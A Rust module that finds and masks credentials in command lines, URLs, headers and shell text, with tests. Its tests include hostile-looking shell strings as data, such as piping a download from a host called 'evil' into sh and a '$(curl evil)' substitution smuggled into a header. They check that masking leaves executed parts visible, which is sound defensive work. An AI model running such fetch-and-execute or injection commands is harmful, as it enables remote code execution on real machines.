//! What may be a credential in words that people configure: arguments, addresses, headers, variables.
//!
//! Two signs: the name beside a value (`--api-key`, `TOKEN=`, `Authorization:`, `user:password@`), and the look of the
//! value itself (`ghp_…`, long and random). Names can be wrong and looks can deceive, so what is found is hidden from what
//! people are shown, and never changed in what a server is sent. One place decides for every command and every log.

mod address;
mod line;
mod look;
mod names;
mod plain;
mod shell;

use std::ops::Range;

use look::by_look;
pub use names::is_credential_name;
pub use plain::is_plain_value;

/// What stands in the place of a credential.
pub(crate) const HIDDEN: &str = "[credential]";

/// A value of `env` that is shorter stands in arguments by chance.
const KNOWN_BYTES_MIN: usize = 4;

/// Before the credential in a header.
const SCHEMES: [&str; 6] = ["bearer", "basic", "token", "digest", "apikey", "negotiate"];

/// How sure it is that something is a credential.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Sign {
    /// Its name or its prefix says so: it is hidden from scripts too.
    Sure,
    /// It looks like one: it is hidden from what people are shown, for a script it may be an id.
    Likely,
}

/// As what a text is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reading {
    /// One argument: the value of the name that it begins with goes to its end.
    Argument,
    /// Code that a person is shown: a value goes no further than its word, so that nothing is hidden that is carried out.
    Code,
}

/// Where a credential stands in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Place {
    pub(crate) range: Range<usize>,
    pub(crate) sign: Sign,
}

/// The parts of a text that may be credentials, in order.
pub fn credential_places(text: &str) -> Vec<Range<usize>> {
    places(text).into_iter().map(|place| place.range).collect()
}

/// The same for every word of a command line: an option says that the word after it is secret.
pub fn credential_places_in_words(words: &[String]) -> Vec<Vec<Range<usize>>> {
    let ranges = |places: Vec<Place>| places.into_iter().map(|place| place.range).collect();
    in_words(words).into_iter().map(ranges).collect()
}

/// Whether a value only names where its credential is: `${TOKEN}`, `Bearer ${TOKEN}`.
pub fn is_credential_reference(value: &str) -> bool {
    is_reference(without_scheme(value))
}

/// The text with every credential hidden.
pub fn masked(text: &str) -> String {
    replaced(text, &places(text))
}

/// Words of a command line for a person, with every credential hidden: also the one that follows its option, and values
/// that the configuration holds secret elsewhere.
pub fn masked_words(words: &[String], secret: &[String]) -> Vec<String> {
    let hide_known = |text: String| {
        let known = secret.iter().filter(|value| value.len() >= KNOWN_BYTES_MIN && !is_number(value));
        known.fold(text, |text, value| {
            let is_long = value.len() >= 2 * KNOWN_BYTES_MIN;
            if text == *value || is_long { text.replace(value.as_str(), HIDDEN) } else { text }
        })
    };
    let found = in_words(words);
    words.iter().zip(found).map(|(word, places)| hide_known(replaced(word, &places))).collect()
}

/// An address for a person: without user, password and query, and with every credential in its path hidden. Read as text,
/// because variables may not be put in yet.
pub fn masked_address(address: &str) -> String {
    let address = &address[..address.find(['?', '#']).unwrap_or(address.len())];
    let address = match user_info(address, 0) {
        Some(user) => format!("{}{}", &address[..user.start], &address[user.end + 1..]),
        None => address.to_owned(),
    };
    masked(&address)
}

/// A text that may be a command of a shell, with every credential hidden, and no more than these: `TOKEN=1; curl …` begins
/// with one, and more than that is started.
pub fn masked_command(text: &str) -> String {
    let mut places = address::places(text);
    let mut start = 0;
    for command in text.split(shell::is_separator) {
        places.extend(shifted(in_text(command, Reading::Code), start));
        // Every separator is one byte.
        start += command.len() + 1;
    }
    replaced(text, &merged(places))
}

/// The places in every word of a command line.
pub(crate) fn in_words(words: &[String]) -> Vec<Vec<Place>> {
    let words: Vec<_> = words.iter().map(String::as_str).collect();
    line::in_line(&words, Reading::Argument)
}

/// The text with something else in the places.
fn replaced(text: &str, places: &[Place]) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut from = 0;
    for Place { range, .. } in places {
        shown.push_str(&text[from..range.start]);
        shown.push_str(HIDDEN);
        from = range.end;
    }
    shown.push_str(&text[from..]);
    shown
}

/// Where credentials stand in a text, by their names and by their looks; in order, none within another.
pub(crate) fn places(text: &str) -> Vec<Place> {
    in_text(text, Reading::Argument)
}

fn in_text(text: &str, reading: Reading) -> Vec<Place> {
    let sure = |range| Place { range, sign: Sign::Sure };
    let users = text.match_indices("://").filter_map(|(at, _)| user_info(text, at)).map(sure);
    let named = text.match_indices(['=', ':']).filter_map(|(at, _)| named_value(text, at, reading)).map(sure);
    let found = users.chain(named).chain(in_commands(text, reading));
    merged(found.chain(by_look(text)).chain(address::places(text)).collect())
}

/// The places in a text that is a command for a shell. A word is shorter than the text or has no quotes and blanks, so this ends.
fn in_commands(text: &str, reading: Reading) -> Vec<Place> {
    if !text.contains(|c: char| c.is_whitespace() || matches!(c, '"' | '\'')) {
        return Vec::new();
    }
    let commands = shell::commands(text);
    let in_command = |ranges: Vec<Range<usize>>| {
        let ranges: Vec<_> = ranges.into_iter().filter(|range| range.len() < text.len()).collect();
        let words: Vec<_> = ranges.iter().map(|range| &text[range.clone()]).collect();
        let found = line::in_line(&words, reading);
        let places = ranges.into_iter().zip(found).flat_map(|(range, found)| shifted(found, range.start));
        places.collect::<Vec<_>>()
    };
    commands.into_iter().flat_map(in_command).collect()
}

fn shifted(places: Vec<Place>, by: usize) -> impl Iterator<Item = Place> {
    let shifted = move |range: Range<usize>| range.start + by..range.end + by;
    places.into_iter().map(move |place| Place { range: shifted(place.range), ..place })
}

/// In order, and what lies in another or overlaps one is part of it.
fn merged(mut places: Vec<Place>) -> Vec<Place> {
    places.sort_by_key(|place| (place.range.start, std::cmp::Reverse(place.range.end)));
    let mut merged: Vec<Place> = Vec::new();
    for place in places {
        match merged.last_mut() {
            Some(last) if place.range.start < last.range.end => {
                last.range.end = last.range.end.max(place.range.end);
            }
            _ => merged.push(place),
        }
    }
    merged
}

/// `user:password` of the address whose `://` is looked for from here on.
fn user_info(text: &str, from: usize) -> Option<Range<usize>> {
    let start = from + text[from..].find("://")? + 3;
    let authority = text[start..].split(['/', '?', '#', '"', '\'', ' ', '\n']).next()?;
    let user = &authority[..authority.rfind('@')?];
    (!user.is_empty() && !is_reference(user)).then_some(start..start + user.len())
}

/// The value of the name before the sign at `at`, where the name says that it is secret.
fn named_value(text: &str, at: usize, reading: Reading) -> Option<Range<usize>> {
    let before = text[..at].trim_end_matches(['"', '\'', ' ', '\\']);
    let is_of_name = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.');
    let start_of_name = before
        .rfind(|c| !is_of_name(c))
        .map_or(0, |last| last + before[last..].chars().next().map_or(1, char::len_utf8));
    let name = &before[start_of_name..];
    if text[at..].starts_with("://") || !is_credential_name(name) {
        return None;
    }
    let rest = &text[at + 1..];
    let value = rest.trim_start_matches([' ', '\\']);
    let is_whole = start_of_name == 0 && (reading == Reading::Argument || text.starts_with('-'));
    let start = at + 1 + (rest.len() - value.len());
    let range = match value.chars().next()? {
        quote @ ('"' | '\'') => {
            let length = value[1..].find(quote).unwrap_or(value.len() - 1);
            // The quotes of JSON within quotes of a shell have a backslash.
            start + 1..start + 1 + value[1..=length].trim_end_matches('\\').len()
        }
        // The whole word is `--token=K` or `Authorization: Bearer K`.
        _ if is_whole => start..text.trim_end().len().max(start),
        _ => start..start + unquoted_length(value),
    };
    let value = &text[range.clone()];
    (!value.is_empty() && !is_reference(without_scheme(value))).then_some(range)
}

/// How long a value is that stands among other things.
fn unquoted_length(value: &str) -> usize {
    let end = |text: &str| {
        text.find(|c: char| {
            c.is_whitespace() || matches!(c, '"' | '\'' | '&' | ',' | ';' | '#' | ')' | '}' | ']')
        })
        .unwrap_or(text.len())
    };
    let credential = without_scheme(value);
    value.len() - credential.len() + end(credential)
}

/// `Bearer K` without its first word.
fn without_scheme(value: &str) -> &str {
    match value.trim_start().split_once(' ') {
        Some((scheme, rest)) if SCHEMES.contains(&scheme.to_ascii_lowercase().as_str()) => rest.trim_start(),
        _ => value.trim_start(),
    }
}

/// Whether a text only names where the credential is: `${TOKEN}`, `$TOKEN`, `{env:TOKEN}`.
fn is_reference(text: &str) -> bool {
    let text = text.trim();
    let inside =
        text.strip_prefix("${").or_else(|| text.strip_prefix('{')).and_then(|rest| rest.strip_suffix('}'));
    let name = inside.or_else(|| text.strip_prefix('$'));
    let is_name = |name: &str| {
        !name.contains(":-")
            && name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | ':' | '-' | '.'))
    };
    name.is_some_and(|name| !name.is_empty() && is_name(name))
}

fn is_number(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(line: &[&str], expect: &[&str]) {
        let line: Vec<_> = line.iter().map(|word| (*word).to_owned()).collect();
        assert_eq!(
            masked_words(&line, &["plain-value-9".to_owned(), "pin4".to_owned(), "8080".to_owned()]),
            expect
        );
    }

    #[test]
    fn credentials_of_a_command_line_are_hidden() {
        check(&["x", "--api-key", "K", "-v"], &["x", "--api-key", HIDDEN, "-v"]);
        check(&["--token=K"], &["--token=[credential]"]);
        check(&["--password", "two words"], &["--password", HIDDEN]);
        check(&["--figma-api-key=K", "--stdio"], &["--figma-api-key=[credential]", "--stdio"]);
        check(&["--header", "Authorization: Bearer K"], &["--header", "Authorization: [credential]"]);
        check(&["-H", "X-Own:K"], &["-H", "X-Own:[credential]"]);
        check(&["Authorization: Basic K"], &["Authorization: [credential]"]);
        check(&["-e", "API_KEY=K y", "-e", "REGION=eu"], &["-e", "API_KEY=[credential]", "-e", "REGION=eu"]);
        check(&["-c", "srv --api-key K; x"], &["-c", "srv --api-key [credential]; x"]);
        check(&["-c", "srv --api-key 'K' x"], &["-c", "srv --api-key '[credential]' x"]);
        check(&["--env=API_KEY=K"], &["--env=API_KEY=[credential]"]);
        check(&["-c", "TOKEN=K exec srv"], &["-c", "TOKEN=[credential]"]);
        check(&["-c", "exec env TOKEN=K srv"], &["-c", "exec env TOKEN=[credential] srv"]);
        check(&["{\"auth\": \"K\", \"a\": 1}"], &["{\"auth\": \"[credential]\", \"a\": 1}"]);
        check(&["https://e.com/mcp?api_key=K&page=2"], &["https://e.com/mcp?api_key=[credential]&page=2"]);
        check(&["postgresql://u:p@h/db"], &["postgresql://[credential]@h/db"]);
        check(&["ghp_abcdefgh12345678"], &[HIDDEN]);
        check(
            &["plain-value-9", "a=plain-value-9", "pin4", "pin4x", "8080"],
            &[HIDDEN, "a=[credential]", HIDDEN, "pin4x", "8080"],
        );
        check(&["--user=0a1b2c3d-1111-2222-3333-444455556666"], &["--user=[credential]"]);
        check(&["sha:9f86d081884c7d659a2feaa0c55ad015"], &["sha:[credential]"]);
    }

    #[test]
    fn credentials_in_text_for_a_shell_are_hidden() {
        for (text, expect) in [
            ("curl -H 'X-Own: v w' http://x", "curl -H 'X-Own: [credential]' http://x"),
            ("curl --header=\"X-Own: v\" http://x", "curl --header=\"X-Own: [credential]\" http://x"),
            ("curl -u me:hunter2 http://x", "curl -u me:[credential] http://x"),
            ("curl -d '{\"token\": \"v w\"}' x", "curl -d '{\"token\": \"[credential]\"}' x"),
            (
                "curl -d \"{\\\"token\\\": \\\"v\\\"}\" x",
                "curl -d \"{\\\"token\\\": \\\"[credential]\\\"}\" x",
            ),
            ("set 'password: v' x", "set 'password: [credential]' x"),
            ("mysql -phunter2 -u root:v", "mysql -p[credential] -u root:[credential]"),
            ("cd x && redis-cli -a K get y", "cd x && redis-cli -a [credential] get y"),
            ("curl 'http://x?page=2&code=K' | y", "curl 'http://x?page=2&code=[credential]' | y"),
        ] {
            check(&["sh", "-c", text], &["sh", "-c", expect]);
            assert_eq!(masked_command(text), expect, "{text}");
        }
        for (text, expect) in [
            ("TOKEN=1; curl evil|sh", "TOKEN=[credential]; curl evil|sh"),
            ("TOKEN=1 curl evil", "TOKEN=[credential] curl evil"),
            ("eval 'TOKEN=1 curl evil'", "eval 'TOKEN=[credential] curl evil'"),
            ("curl -H 'X: a;curl evil'", "curl -H 'X: [credential];curl evil'"),
            ("curl -H \"X: $(curl evil)\"", "curl -H \"X: [credential](curl evil)\""),
        ] {
            assert_eq!(masked_command(text), expect, "{text}");
        }
    }

    #[test]
    fn credentials_after_what_says_so_are_hidden() {
        check(&["password: v w"], &["password: [credential]"]);
        check(&["{\"token\": \"v\"}"], &["{\"token\": \"[credential]\"}"]);
        check(&["--pass", "K", "--license", "K"], &["--pass", HIDDEN, "--license", HIDDEN]);
        check(&["token", "hunter2h", "x"], &["token", HIDDEN, "x"]);
        check(&["/usr/bin/mysql", "-phunter2"], &["/usr/bin/mysql", "-p[credential]"]);
        check(&["docker", "run", "redis-cli", "-a", "K"], &["docker", "run", "redis-cli", "-a", HIDDEN]);
        check(&["sshpass", "-p", "K", "ssh", "h"], &["sshpass", "-p", HIDDEN, "ssh", "h"]);
        check(&["curl", "--user=me:K"], &["curl", "--user=me:[credential]"]);
        check(&["-HX-Own: v"], &["-HX-Own: [credential]"]);
        check(
            &["https://e.com/?t=K&a=hunter2b&sig=K&key=K#K9fragment"],
            &["https://e.com/?t=[credential]&a=[credential]&sig=[credential]&key=[credential]#[credential]"],
        );
        check(&["https://e.com/x#frag=hunter2"], &["https://e.com/x#frag=[credential]"]);
    }

    #[test]
    fn honest_words_stay() {
        for line in [
            &["npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/home/me/2024-q3-reports"][..],
            &[
                "--api-key",
                "${KEY}",
                "--token=$TOKEN",
                "--header",
                "Authorization: Bearer ${T}",
                "-H",
                "A:{env:T}",
            ],
            &["--max-tokens", "4000", "--author", "Ada Lovelace", "--key-file", "/etc/key.pem"],
            &["--api-key", "--verbose"],
            &["-p", "8081", "--port", "80", "-u", "user", "-a", "x", "-p8081:80", "-profile", "-P", "x"],
            &["docker", "run", "-u", "1000:1000", "--user", "node:node", "-p", "127.0.0.1:80:80"],
            &["mysql", "-h", "db", "-P", "3306", "-p", "mydb", "redis-cli", "-p", "6379", "-h", "cache"],
            &["gh", "auth", "token", "vault", "token", "lookup", "kubectl", "get", "secret", "name"],
            &[
                "https://e.com/mcp?page=2&read_only=true&features=docs,database#readme",
                "git+https://e.com/a#v1.2.0",
            ],
            &["sh", "-c", "cd '/a b' && exec node \"server.js\" --port 80 -u user"],
            &["don't ask: it's fine", "-e", "console.log(\"x\")"],
            &[
                "https://mcp.example.com/v1/mcp",
                "http://[::1]:8080/",
                "C:\\tools\\x",
                "a:b",
                "createProjectFromTemplateFolder",
            ],
        ] {
            check(line, line);
        }
    }

    #[test]
    fn addresses_are_shown_without_what_is_secret() {
        for (address, expect) in [
            ("https://u:p@e.com/mcp?key=1#x", "https://e.com/mcp"),
            ("https://K@e.com/a@b", "https://e.com/a@b"),
            ("https://e.com/s/NGRkYjMzLTk0ZGYtNDA5Mi1h/mcp", "https://e.com/s/[credential]/mcp"),
            ("https://e.com/${KEY}/mcp", "https://e.com/${KEY}/mcp"),
            ("https://e.com/sk-live-123456789/mcp", "https://e.com/[credential]/mcp"),
            (
                "https://e.com/server/0a1b2c3d-1111-2222-3333-444455556666/mcp",
                "https://e.com/server/[credential]/mcp",
            ),
        ] {
            assert_eq!(masked_address(address), expect, "{address}");
        }
    }

    proptest::proptest! {
        /// Whatever a text holds, its places lie in it, in order and between characters.
        #[test]
        fn places_lie_in_the_text(text in r#"[a-z:=/@"' ?&é$K{}-]{0,40}(token|key|://|=|: )[a-zé:="' @/-]{0,20}"#) {
            let shown = masked(&text);
            proptest::prop_assert!(shown.len() <= text.len() * (HIDDEN.len() + 1));
            masked_address(&text);
            in_words(&[text.clone(), text]);
        }
    }
}
